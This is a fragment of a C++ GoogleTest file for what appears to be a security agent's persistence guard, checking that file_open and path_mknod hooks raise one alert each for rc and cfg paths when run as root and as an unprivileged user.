    seen.push_back(Seen{hook_of(a.value("output", "")), a.value("path", ""),
                        a.value("output", "")});
    std::printf("uncached open refused by %s: %s\n", seen.back().hook.c_str(),
                seen.back().path.c_str());
  }
  expect_one_alert_each({{"rc", {"file_open", "path_mknod"}, rc},
                         {"cfg", {"file_open", "path_mknod"}, cfg}},
                        seen);
}

INSTANTIATE_TEST_SUITE_P(Agent, PersistenceGuard, ::testing::Values(false, true),
                         [](const auto &param_info) { return param_info.param ? "uid65534" : "root"; });

} // namespace
} // namespace vigil::test
